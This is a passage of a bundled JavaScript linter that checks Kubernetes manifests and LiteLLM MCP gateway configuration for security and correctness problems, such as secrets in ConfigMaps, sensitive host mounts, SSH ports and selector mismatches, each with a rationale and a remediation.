        remediation: 'Set `securityContext.seccompProfile: { type: RuntimeDefault }` on the pod spec (it applies to every container), or a `Localhost` profile.',
        messages: {
            missing: '{{object}}: container "{{container}}" has no seccomp profile: set securityContext.seccompProfile.type: RuntimeDefault on the pod',
            unconfined: '{{object}}: container "{{container}}" uses seccomp profile type {{type}}',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            if (!(0, pod_security_1.isRunnable)(c))
                continue;
            const setting = (0, pod_security_1.effectiveSetting)(ctx.object, c, 'seccompProfile');
            const type = setting.value && typeof setting.value === 'object' ? setting.value.type : undefined;
            if (type === 'RuntimeDefault' || type === 'Localhost')
                continue;
            const data = { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, type: String(type) };
            if (setting.source === 'unset' || type === undefined)
                ctx.report({ messageId: 'missing', data, at: setting.path });
            else
                ctx.report({ messageId: 'unconfined', data, at: [...setting.path, 'type'] });
        }
    },
});


/***/ }),

/***/ 64831:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const detector_1 = __webpack_require__(85455);
const types_1 = __webpack_require__(15200);
/** `KEY=value`, `key: value`, `export KEY="value"`: one assignment of a config file or env file. */
const ASSIGNMENT = /^\s*(?:export\s+)?([A-Za-z_][\w.-]*)\s*[:=]\s*(.+?)\s*$/;
function unquote(v) {
    return /^(["']).*\1$/.test(v) ? v.slice(1, -1) : v;
}
/** The first secret in one ConfigMap value: the value itself under its key, or a line of an embedded file. */
function secretIn(key, value) {
    if (!value.includes('\n')) {
        const match = (0, detector_1.detectSecret)({ key, value });
        return match ? { match } : undefined;
    }
    const lines = value.split('\n');
    for (let i = 0; i < lines.length; i++) {
        const line = lines[i];
        if (!line.trim() || /^\s*[#;]/.test(line))
            continue;
        const m = ASSIGNMENT.exec(line);
        const match = m ? (0, detector_1.detectSecret)({ key: m[1], value: unquote(m[2]) }) : (0, detector_1.detectSecret)({ value: line.trim() });
        if (match)
            return { match, line: i + 1 };
    }
    return undefined;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/secret-in-configmap',
    target: 'kubernetes-object',
    meta: {
        title: 'Secret written into a ConfigMap',
        category: 'security',
        readiness: 'secrets',
        severity: 'error',
        rationale: 'A ConfigMap is not a secret store: it is readable by anyone who can `get configmaps` (far more people and controllers than can read Secrets), shown by `kubectl describe`, never encrypted at rest and committed in plain text. A token or password in its data, or in a config file it carries, leaks with every clone and GitOps diff. kube-linter and Polaris only look at env; this uses the same secret rules as `stackgate secrets`.',
        remediation: 'Rotate the value that was committed, move it into a Secret (sealed, SOPS-encrypted or synced by External Secrets) and mount or reference that; keep only the non-secret settings in the ConfigMap.',
        messages: {
            value: '{{object}}: data key "{{key}}" holds a literal {{description}} ({{preview}}); move it into a Secret',
            embedded: '{{object}}: line {{line}} of data key "{{key}}" holds a literal {{description}} ({{preview}}); move it into a Secret',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        if (obj.kind !== 'ConfigMap' || obj.apiVersion !== 'v1')
            return;
        const data = obj.value.data;
        if (!data || typeof data !== 'object' || Array.isArray(data))
            return;
        for (const [key, value] of Object.entries(data)) {
            if (typeof value !== 'string' && typeof value !== 'number')
                continue;
            const found = secretIn(key, String(value));
            if (!found)
                continue;
            // Only the key, the rule and the redacted preview leave this check: never the value.
            const common = { object: (0, objects_1.objectLabel)(obj), key, description: found.match.description, preview: found.match.redacted };
            if (found.line === undefined)
                ctx.report({ messageId: 'value', data: common, at: ['data', key] });
            else
                ctx.report({ messageId: 'embedded', data: { ...common, line: found.line }, at: ['data', key] });
        }
    },
});


/***/ }),

/***/ 27296:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const detector_1 = __webpack_require__(85455);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/secret-in-env',
    target: 'kubernetes-object',
    meta: {
        title: 'Secret written as a literal environment variable',
        category: 'security',
        readiness: 'secrets',
        severity: 'error',
        rationale: 'A password or API token in `env[].value` is stored in Git, in the Deployment object (readable by anyone who can `get deployments`), in `kubectl describe` output and in every GitOps diff. MCP servers hold tokens for the tools they call, so a leak reaches far. kube-linter (env-var-secret) and Polaris (sensitiveContainerEnvVar) flag it.',
        remediation: 'Move the value into a Secret (sealed, SOPS-encrypted or synced by External Secrets) and reference it: `valueFrom: { secretKeyRef: { name: mcp-secrets, key: api-token } }`. Rotate the value that was committed.',
        messages: {
            literal: '{{object}}: container "{{container}}" sets {{variable}} to a literal {{description}} ({{preview}}); use valueFrom.secretKeyRef',
        },
    },
    check(ctx) {
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const env = c.value.env;
            if (!Array.isArray(env))
                continue;
            env.forEach((e, i) => {
                if (!e || typeof e !== 'object')
                    return;
                const { name, value } = e;
                if (typeof name !== 'string' || (typeof value !== 'string' && typeof value !== 'number'))
                    return;
                const match = (0, detector_1.detectSecret)({ key: name, value: String(value) });
                if (!match)
                    return;
                // The message names the variable, the kind of secret and the redacted preview, never the value.
                ctx.report({
                    messageId: 'literal',
                    data: { object: (0, objects_1.objectLabel)(ctx.object), container: c.name, variable: name, description: match.description, preview: match.redacted },
                    at: [...c.path, 'env', i, 'value'],
                });
            });
        }
    },
});


/***/ }),

/***/ 18333:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const display_value_1 = __webpack_require__(42785);
const types_1 = __webpack_require__(15200);
const SELECTOR_KINDS = new Set(['Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet', 'Job']);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/selector-template-mismatch',
    target: 'kubernetes-object',
    meta: {
        title: 'Controller selector does not match its pod template labels',
        category: 'correctness',
        severity: 'error',
        rationale: 'The API server rejects a Deployment, StatefulSet or DaemonSet whose `spec.selector` does not select its own pod template ("selector does not match template labels"), so the rollout never starts. kube-linter (mismatching-selector) reports it.',
        remediation: 'Make every `spec.selector.matchLabels` pair (and matchExpression) hold for `spec.template.metadata.labels`; the selector is immutable, so change the template labels rather than the selector of a live object.',
        messages: {
            mismatch: '{{object}}: spec.selector does not match the pod template labels ({{labels}})',
        },
    },
    check(ctx) {
        const obj = ctx.object;
        if (!SELECTOR_KINDS.has(obj.kind))
            return;
        const spec = obj.value.spec;
        const selector = spec && typeof spec === 'object' ? spec.selector : undefined;
        // A Job's selector is generated unless manualSelector is set; a missing one is a schema error.
        if (!selector || typeof selector !== 'object')
            return;
        const labels = (0, objects_1.podLabelsOf)(obj);
        if ((0, label_selector_1.matchesLabelSelector)(selector, labels))
            return;
        const shown = (0, display_value_1.displayPairs)(labels);
        ctx.report({ messageId: 'mismatch', data: { object: (0, objects_1.objectLabel)(obj), labels: shown }, at: ['spec', 'selector'] });
    },
});


/***/ }),

/***/ 90365:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const host_paths_1 = __webpack_require__(91149);
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/sensitive-host-path',
    target: 'kubernetes-object',
    meta: {
        title: 'Pod mounts a sensitive host path',
        category: 'security',
        severity: 'error',
        rationale: 'Mounting the container runtime socket gives full control of every container on the node; mounting /, /etc, /proc, /sys or the kubelet directory exposes node credentials and configuration. Either turns a compromised MCP server into a compromised node. kube-linter flags these as docker-sock and sensitive-host-mounts.',
        remediation: 'Remove the hostPath volume. Build images in CI instead of through the Docker socket, and read node data through the Kubernetes API or a dedicated, audited DaemonSet.',
        messages: {
            socket: '{{object}}: volume "{{volume}}" mounts the container runtime socket {{path}}',
            sensitive: '{{object}}: volume "{{volume}}" mounts sensitive host path {{path}}',
        },
    },
    check(ctx) {
        for (const v of (0, host_paths_1.hostPathVolumes)(ctx.object)) {
            if (!(0, host_paths_1.isSensitiveHostPath)(v.path))
                continue;
            const data = { object: (0, objects_1.objectLabel)(ctx.object), volume: v.volume, path: (0, host_paths_1.normalizeHostPath)(v.path) };
            ctx.report({ messageId: (0, host_paths_1.isContainerRuntimeSocket)(v.path) ? 'socket' : 'sensitive', data, at: v.at });
        }
    },
});


/***/ }),

/***/ 82251:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const placeholders_1 = __webpack_require__(87328);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const BINDING_KINDS = new Set(['RoleBinding', 'ClusterRoleBinding']);
/** Namespaces match when equal, or when either is left to `kubectl apply -n`. */
function sameNamespace(a, b) {
    return a === undefined || b === undefined || a === b;
}
/** Whether a RoleBinding or ClusterRoleBinding of the set names the service account as a subject. */
function isBound(objects, account, namespace) {
    return objects.some((o) => {
        if (!BINDING_KINDS.has(o.kind) || !Array.isArray(o.value.subjects))
            return false;
        return o.value.subjects.some((s) => !!s &&
            typeof s === 'object' &&
            s.kind === 'ServiceAccount' &&
            s.name === account &&
            sameNamespace(typeof s.namespace === 'string' ? s.namespace : o.namespace, namespace));
    });
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/service-account-token',
    target: 'kubernetes-set',
    meta: {
        title: 'Pod mounts a service account token it does not need',
        category: 'security',
        severity: 'info',
        rationale: 'Every pod gets a token for its service account mounted at /var/run/secrets/kubernetes.io/serviceaccount unless told otherwise. An MCP server that never talks to the Kubernetes API gains nothing from it, while an attacker who can read files through a tool gains API credentials. Polaris (automountServiceAccountToken) flags it. A pod under the default account, or under a ServiceAccount the repository defines but no RoleBinding or ClusterRoleBinding of the repository binds, is taken not to need the token; a ServiceAccount with `automountServiceAccountToken: false` covers its pods.',
        remediation: 'Set `automountServiceAccountToken: false` in the pod spec (or on the ServiceAccount). Pods that do call the API should run under their own ServiceAccount with a minimal Role.',
        messages: {
            mounted: '{{object}} runs as the default service account with its token mounted: set automountServiceAccountToken: false',
            unbound: '{{object}} mounts the token of service account "{{account}}", which no RoleBinding or ClusterRoleBinding in the repository binds: set automountServiceAccountToken: false unless it calls the API',
        },
    },
    check(ctx) {
        const accounts = ctx.objects.filter((o) => o.kind === 'ServiceAccount' && o.apiVersion === 'v1');
        for (const obj of ctx.objects) {
            if (!(0, objects_1.isWorkload)(obj))
                continue;
            const spec = (0, objects_1.podSpecOf)(obj);
            const specPath = (0, objects_1.podSpecPath)(obj);
            if (!spec || !specPath)
                continue;
            const mount = spec.automountServiceAccountToken;
            // A Flux `${VAR}` placeholder is only known after substitution.
            if (mount === false || (0, placeholders_1.hasPlaceholder)(mount))
                continue;
            const named = spec.serviceAccountName ?? spec.serviceAccount;
            const account = typeof named === 'string' && named !== '' ? named : 'default';
            const defined = accounts.find((a) => a.name === account && sameNamespace(a.namespace, obj.namespace));
            // The ServiceAccount turns the token off for its pods, unless the pod turns it back on.
            if (mount === undefined && defined?.value.automountServiceAccountToken === false)
                continue;
            const at = mount !== undefined ? [...specPath, 'automountServiceAccountToken'] : specPath;
            if (account === 'default') {
                ctx.report({ messageId: 'mounted', data: { object: (0, objects_1.objectLabel)(obj) }, at: (0, yaml_tree_1.locate)(obj.root, at, obj.loc) });
                continue;
            }
            // A dedicated account signals that the pod uses the API, unless the repository defines it and grants it nothing.
            if (!defined || isBound(ctx.objects, account, obj.namespace))
                continue;
            ctx.report({ messageId: 'unbound', data: { object: (0, objects_1.objectLabel)(obj), account }, at: (0, yaml_tree_1.locate)(obj.root, at, obj.loc) });
        }
    },
});


/***/ }),

/***/ 38172:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const unmatched_services_1 = __webpack_require__(8574);
const yaml_tree_1 = __webpack_require__(43183);
const display_value_1 = __webpack_require__(42785);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/service-selector-mismatch',
    target: 'kubernetes-set',
    meta: {
        title: 'Service selects no pods',
        category: 'correctness',
        severity: 'error',
        rationale: 'A Service whose selector matches no pod template has no endpoints: clients of the MCP server get connection refused or 503 from the ingress, while every object applies cleanly. Usually a label renamed on one side only. kube-linter (dangling-service) flags it.',
        remediation: 'Make `spec.selector` equal to a subset of the pod template labels of the workload it fronts (`kubectl get endpoints <service>` shows the result on a live cluster). A Service for pods an operator creates from a custom resource in its namespace (a Prometheus, an Alertmanager) is not reported here.',
        messages: {
            noMatch: 'Service "{{service}}" selector {{selector}} matches no pod template{{namespace}}',
        },
    },
    check(ctx) {
        // Services without workloads in their namespace are skipped there: the pods are deployed from elsewhere (a chart, an operator).
        for (const { service: svc, selector, operatorResource } of (0, unmatched_services_1.unmatchedServices)(ctx.objects)) {
            // Pods an operator creates from a custom resource: kubernetes/service-selects-operator-pods names it.
            if (operatorResource)
                continue;
            const shown = Object.entries(selector)
                .map(([k, v]) => `${k}=${(0, display_value_1.displayValue)(v)}`)
                .join(', ');
            ctx.report({
                messageId: 'noMatch',
                data: { service: (0, objects_1.objectLabel)(svc).replace(/^Service\//, ''), selector: `{${shown}}`, namespace: svc.namespace ? ` in namespace ${svc.namespace}` : '' },
                at: (0, yaml_tree_1.locate)(svc.root, ['spec', 'selector'], svc.loc),
            });
        }
    },
});


/***/ }),

/***/ 69923:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const unmatched_services_1 = __webpack_require__(8574);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/service-selects-operator-pods',
    target: 'kubernetes-set',
    meta: {
        title: 'Service selects pods that an operator creates',
        category: 'correctness',
        severity: 'info',
        rationale: 'A Service whose selector matches no pod template in the repository may front pods an operator creates from a custom resource (the Prometheus Operator runs the pods of a Prometheus or an Alertmanager). stackgate cannot see those pods, so it names the resource it assumes they come from instead of reporting kubernetes/service-selector-mismatch.',
        remediation: "Nothing to do when the named resource's operator labels its pods with the selector (`kubectl get endpoints <service>` on a live cluster shows it). Otherwise make `spec.selector` match the pod template labels of the workload the Service fronts.",
        messages: {
            operatorPods: 'Service "{{service}}" selector {{selector}} matches no pod template; it presumably selects the pods of {{resource}} ({{file}}:{{line}})',
        },
    },
    check(ctx) {
        for (const { service: svc, selector, operatorResource: resource } of (0, unmatched_services_1.unmatchedServices)(ctx.objects)) {
            if (!resource)
                continue;
            const shown = Object.entries((0, objects_1.asStringMap)(selector))
                .map(([k, v]) => `${k}=${v}`)
                .join(', ');
            ctx.report({
                messageId: 'operatorPods',
                data: {
                    service: (0, objects_1.objectLabel)(svc).replace(/^Service\//, ''),
                    selector: `{${shown}}`,
                    resource: `${resource.apiVersion} ${(0, objects_1.objectLabel)(resource)}`,
                    file: resource.file,
                    line: resource.loc.line,
                },
                at: (0, yaml_tree_1.locate)(svc.root, ['spec', 'selector'], svc.loc),
            });
        }
    },
});


/***/ }),

/***/ 2530:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
const SSH_PORT = 22;
function isSshPort(v) {
    return v === SSH_PORT || v === String(SSH_PORT);
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/ssh-port',
    target: 'kubernetes-object',
    meta: {
        title: 'SSH port 22 exposed',
        category: 'security',
        severity: 'warning',
        rationale: 'A container that listens on port 22 runs an SSH server next to the MCP server: another way in, with its own keys and passwords to manage, that bypasses the audit trail of `kubectl exec`. A Service on port 22 publishes it. kube-linter (ssh-port) flags it.',
        remediation: 'Remove the SSH daemon from the image and use `kubectl exec` or `kubectl debug` for access. A Git server that serves SSH on purpose can suppress the finding with a comment saying so.',
        messages: {
            containerPort: '{{object}}: container "{{container}}" exposes SSH port 22',
            servicePort: '{{object}}: port {{port}} exposes SSH (port 22)',
        },
    },
    check(ctx) {
        const object = (0, objects_1.objectLabel)(ctx.object);
        for (const c of (0, objects_1.containersOf)(ctx.object)) {
            const ports = c.value.ports;
            if (!Array.isArray(ports))
                continue;
            ports.forEach((p, i) => {
                if (p && typeof p === 'object' && isSshPort(p.containerPort)) {
                    ctx.report({ messageId: 'containerPort', data: { object, container: c.name }, at: [...c.path, 'ports', i, 'containerPort'] });
                }
            });
        }
        if (ctx.object.kind !== 'Service')
            return;
        const ports = ctx.object.value.spec?.ports;
        if (!Array.isArray(ports))
            return;
        ports.forEach((p, i) => {
            if (!p || typeof p !== 'object')
                return;
            const { name, port, targetPort } = p;
            const field = isSshPort(port) ? 'port' : isSshPort(targetPort) ? 'targetPort' : undefined;
            if (!field)
                return;
            const shown = typeof name === 'string' && name ? `"${name}"` : typeof port === 'number' || typeof port === 'string' ? String(port) : `#${i + 1}`;
            const at = ['spec', 'ports', i, field];
            ctx.report({ messageId: 'servicePort', data: { object, port: shown }, at });
        });
    },
});


/***/ }),

/***/ 1083:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const custom_resources_1 = __webpack_require__(18433);
const schema_1 = __webpack_require__(80757);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/unknown-custom-resource',
    target: 'kubernetes-set',
    meta: {
        title: 'Custom resource kind has no known schema',
        category: 'correctness',
        severity: 'info',
        rationale: 'stackgate can only validate a custom resource when it knows its schema. Without one, typos and wrong types in these objects reach the cluster unchecked (kubeconform reports them as "could not find schema" and skips them).',
        remediation: 'Commit the CustomResourceDefinition next to the manifests, or map the kind to a schema file in stackgate.yml: `kubernetes: { schemas: { "example.com/v1/Widget": "schemas/widget.json" } }`.',
        messages: {
            unknown: '{{apiVersion}} {{kind}} is not a built-in kind and no schema is known for it; its fields are not validated',
        },
    },
    check(ctx) {
        const crds = (0, custom_resources_1.customResourceDefinitions)(ctx.objects);
        const configured = ctx.customSchemas;
        const seen = new Set();
        for (const obj of ctx.objects) {
            if ((0, schema_1.isBuiltInGroup)(obj.apiVersion) || (0, schema_1.isClientSideConfig)(obj.apiVersion, obj.kind))
                continue;
            const key = (0, custom_resources_1.schemaKey)(obj.apiVersion, obj.kind);
            if (seen.has(key))
                continue;
            seen.add(key);
            const group = (0, schema_1.groupOf)(obj.apiVersion);
            if (crds.some((d) => d.group === group && d.kind === obj.kind))
                continue;
            if ((0, custom_resources_1.builtInCustomSchema)(obj.apiVersion, obj.kind))
                continue;
            if (configured instanceof Map && configured.has(key))
                continue;
            ctx.report({ messageId: 'unknown', data: { apiVersion: obj.apiVersion, kind: obj.kind }, at: (0, yaml_tree_1.locate)(obj.root, ['kind'], obj.loc) });
        }
    },
});


/***/ }),

/***/ 91572:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const objects_1 = __webpack_require__(35704);
const types_1 = __webpack_require__(15200);
/** Sysctls Kubernetes considers safe (namespaced and isolated between pods). */
const SAFE = new Set([
    'kernel.shm_rmid_forced',
    'net.ipv4.ip_local_port_range',
    'net.ipv4.ip_unprivileged_port_start',
    'net.ipv4.tcp_syncookies',
    'net.ipv4.ping_group_range',
    'net.ipv4.ip_local_reserved_ports',
    'net.ipv4.tcp_keepalive_time',
    'net.ipv4.tcp_fin_timeout',
    'net.ipv4.tcp_keepalive_intvl',
    'net.ipv4.tcp_keepalive_probes',
    'net.ipv4.tcp_rmem',
    'net.ipv4.tcp_wmem',
]);
exports["default"] = (0, types_1.defineCheck)({
    id: 'kubernetes/unsafe-sysctls',
    target: 'kubernetes-object',
    meta: {
        title: 'Pod sets an unsafe sysctl',
        category: 'security',
        severity: 'warning',
        rationale: 'Unsafe sysctls are not isolated between pods: they change kernel behaviour for the whole node, and the kubelet refuses the pod (SysctlForbidden) unless it was started with --allowed-unsafe-sysctls. kube-linter (unsafe-sysctls) and the "baseline" Pod Security Standard flag them.',
        remediation: 'Remove the sysctl, or tune it on dedicated nodes through node configuration rather than from the pod.',
        messages: {
            unsafe: '{{object}} sets unsafe sysctl {{sysctl}}',
        },
    },
    check(ctx) {
        const spec = (0, objects_1.podSpecOf)(ctx.object);
        const specPath = (0, objects_1.podSpecPath)(ctx.object);
        const sc = spec?.securityContext;
        if (!specPath || !sc || typeof sc !== 'object' || !Array.isArray(sc.sysctls))
            return;
        sc.sysctls.forEach((s, i) => {
            const name = s && typeof s === 'object' ? s.name : undefined;
            if (typeof name !== 'string' || SAFE.has(name))
                return;
            ctx.report({ messageId: 'unsafe', data: { object: (0, objects_1.objectLabel)(ctx.object), sysctl: name }, at: [...specPath, 'securityContext', 'sysctls', i, 'name'] });
        });
    },
});


/***/ }),

/***/ 65194:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const proxy_config_1 = __webpack_require__(73342);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'mcp/litellm-registered',
    target: 'repository',
    meta: {
        title: 'MCP service is not registered in the LiteLLM gateway',
        category: 'operations',
        severity: 'warning',
        rationale: "Clients reach the MCP servers through the LiteLLM proxy's `mcp_servers`; a server that is deployed but not registered there runs, costs memory and is monitored, yet no assistant can use its tools. It usually happens when a server is added to Compose and the gateway config is forgotten in the same change.",
        remediation: 'Add an entry to `mcp_servers` in the LiteLLM config, e.g. `fetch: { url: "http://mcp-fetch:8504/sse", transport: sse }`, using the service name as host and its container port.',
        messages: {
            unregistered: 'MCP service "{{service}}" is not registered in the LiteLLM config {{file}}: no mcp_servers entry points at {{hosts}} or is named "{{name}}"',
        },
    },
    check(ctx) {
        const configs = (0, proxy_config_1.findLiteLlmConfigs)({ paths: ctx.paths, read: ctx.read, yaml: ctx.yaml, configured: ctx.config.mcp.litellm });
        const services = (0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        if (!configs.length || !services.length)
            return ctx.notApplicable();
        const entries = configs.flatMap((c) => c.entries);
        for (const { first: s, deployments, hosts } of (0, list_services_1.servicesByName)(services)) {
            if (entries.some((e) => (0, proxy_config_1.isEntryFor)(e, { name: s.name, deployments })))
                continue;
            ctx.report({
                messageId: 'unregistered',
                data: { service: s.name, file: configs.map((c) => c.file).join(', '), hosts: hosts.map((h) => `"${h}"`).join(' or '), name: (0, proxy_config_1.bareName)(s.name) },
                at: s.loc,
            });
        }
    },
});


/***/ }),

/***/ 56333:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const project_1 = __webpack_require__(19409);
const did_you_mean_1 = __webpack_require__(87568);
const proxy_config_1 = __webpack_require__(73342);
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
const LOCAL_HOSTS = /^(localhost|127\.\d+\.\d+\.\d+|::1|0\.0\.0\.0|host\.docker\.internal|host-gateway|\d+\.\d+\.\d+\.\d+|[0-9a-f:]+:[0-9a-f:]*)$/i;
exports["default"] = (0, types_1.defineCheck)({
    id: 'mcp/litellm-url-matches',
    target: 'repository',
    meta: {
        title: 'LiteLLM entry does not match the MCP service it points at',
        category: 'correctness',
        severity: 'error',
        rationale: "The gateway connects to exactly the URL in `mcp_servers`: a port the container does not listen on, an SSE endpoint registered with `transport: http` (or a `/mcp` streamable-HTTP endpoint left on LiteLLM's default SSE), or a misspelt host makes every tool of that server fail for every user, while the server itself looks healthy to Docker and Prometheus.",
        remediation: 'Use the service name (or container_name/network alias) as host and the container port it listens on (not the published host port), and set `transport: sse` for `/sse` endpoints and `transport: http` for streamable-HTTP `/mcp` endpoints.',
        messages: {
            wrongPort: 'LiteLLM entry "{{entry}}" dials {{host}}:{{port}}, but "{{service}}" listens on {{expected}}',
            transportMismatch: 'LiteLLM entry "{{entry}}" uses transport {{transport}} for {{path}}, which is a {{expected}} endpoint',
            unknownTransport: 'LiteLLM entry "{{entry}}" has transport "{{transport}}"; LiteLLM accepts sse, http or stdio',
            unknownHost: 'LiteLLM entry "{{entry}}" points at host "{{host}}", which is no service of this repository{{suggestion}}: the gateway cannot reach the server',
        },
    },
    check(ctx) {
        const configs = (0, proxy_config_1.findLiteLlmConfigs)({ paths: ctx.paths, read: ctx.read, yaml: ctx.yaml, configured: ctx.config.mcp.litellm });
        const entries = configs.flatMap((c) => c.entries).filter((e) => e.url || e.rawTransport);
        if (!entries.length)
            return ctx.notApplicable();
        const services = (0, list_services_1.listServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        const known = knownHosts(ctx, services);
        for (const entry of entries) {
            const at = entry.urlLoc ?? entry.loc;
            if (entry.rawTransport && !entry.transport) {
                ctx.report({ messageId: 'unknownTransport', data: { entry: entry.name, transport: entry.rawTransport }, at: entry.loc });
            }
            const url = entry.url ? (0, proxy_config_1.parseEntryUrl)(entry.url) : undefined;
            if (!url)
                continue;
            const implied = (0, proxy_config_1.transportOfPath)(url.path);
            const declared = entry.rawTransport ? entry.transport : proxy_config_1.LITELLM_DEFAULT_TRANSPORT;
            if (implied && declared && declared !== implied) {
                const transport = entry.rawTransport ? `"${entry.rawTransport}"` : `${proxy_config_1.LITELLM_DEFAULT_TRANSPORT} (LiteLLM's default, none declared)`;
                ctx.report({
                    messageId: 'transportMismatch',
                    data: { entry: entry.name, transport, path: url.path, expected: implied === 'sse' ? 'SSE' : 'streamable HTTP (transport: http)' },
                    at,
                });
            }
            if (LOCAL_HOSTS.test(url.host))
                continue;
            const [first, second, third] = url.host.split('.');
            const clusterName = second !== undefined && (third === undefined || third === 'svc') ? first : undefined;
            const targets = services.filter((s) => (0, list_services_1.hostReaches)(url.host, s));
            if (!targets.length) {
                if (url.host.includes('.') && !(clusterName && known.has(clusterName)))
                    continue; // an external server, or a name we cannot resolve
                if (known.has(url.host) || (clusterName && known.has(clusterName)))
                    continue;
                const hint = (0, did_you_mean_1.suggest)(url.host, [...known]);
                ctx.report({ messageId: 'unknownHost', data: { entry: entry.name, host: url.host, suggestion: hint ? ` (did you mean "${hint}"?)` : '' }, at });
                continue;
            }
            const ports = new Set(targets.flatMap((s) => (s.platform === 'kubernetes' && s.servicePorts.length ? s.servicePorts : s.containerPorts)));
            if (ports.size && !ports.has(url.port)) {
                const expected = [...ports]
                    .sort((a, b) => a - b)
                    .map((p) => `port ${p}`)
                    .join(' or ');
                ctx.report({ messageId: 'wrongPort', data: { entry: entry.name, host: url.host, port: url.port, service: targets[0].name, expected }, at });
            }
        }
    },
});
/** Every name a client could dial: services of every environment (profiles included), Kubernetes Services and workloads. */
function knownHosts(ctx, services) {
    const out = new Set(services.flatMap((s) => s.hosts.map((h) => h.toLowerCase())));
    for (const o of ctx.kubernetes)
        if (o.kind === 'Service' || o.kind === 'Deployment' || o.kind === 'StatefulSet' || o.kind === 'DaemonSet')
            out.add(o.name.toLowerCase());
    const files = new Set(ctx.compose.stacks.flatMap(project_1.stackFiles));
    for (const file of files) {
        for (const doc of ctx.yaml(file)?.documents ?? []) {
            const servicesNode = doc.root?.kind === 'map' ? doc.root.entries.get('services') : undefined;
            if (servicesNode?.kind !== 'map')
                continue;
            for (const [name, node] of servicesNode.entries) {
                out.add(name.toLowerCase());
                const cn = node.kind === 'map' ? node.entries.get('container_name') : undefined;
                if (cn?.kind === 'scalar' && typeof cn.value === 'string')
                    out.add(cn.value.toLowerCase());
            }
        }
    }
    return out;
}


/***/ }),

/***/ 92411:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'mcp/smoke-tests',
    target: 'repository',
    meta: {
        title: 'MCP service has no smoke test',
        category: 'reliability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'A container that is "healthy" can still serve an MCP server with no tools: a missing token, a failed SSE session, a changed tool name. Only a post-deploy smoke test that initializes a session, lists the tools and calls one proves the server works for the gateway; without one, a deploy is verified by the first user who asks the assistant for that tool.',
        remediation: 'Add a smoke target per service in stackgate.yml, e.g. `smoke: { environments: { staging: { mcp-fetch: { url: "http://mcp-fetch:8504/sse", tools: [fetch], calls: [{ tool: fetch, arguments: { url: "https://example.com" } }] } } } }`, and run `stackgate smoke` after each deploy.',
        messages: {
            missing: 'MCP service "{{service}}" has no smoke test: add `smoke.environments.<env>.{{service}}` to stackgate.yml{{configured}}',
        },
    },
    check(ctx) {
        const services = (0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        if (!services.length)
            return ctx.notApplicable();
        const environments = ctx.config.smoke.environments;
        const targets = new Set(Object.values(environments).flatMap((byService) => Object.keys(byService)));
        const configured = Object.keys(environments).length
            ? ` (smoke targets exist for ${[...targets].slice(0, 5).join(', ')}${targets.size > 5 ? ', ...' : ''})`
            : '';
        for (const { first: s, hosts } of (0, list_services_1.servicesByName)(services)) {
            if (hosts.some((h) => targets.has(h)))
                continue;
            ctx.report({ messageId: 'missing', data: { service: s.name, configured }, at: s.loc });
        }
    },
});


/***/ }),

/***/ 85702:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


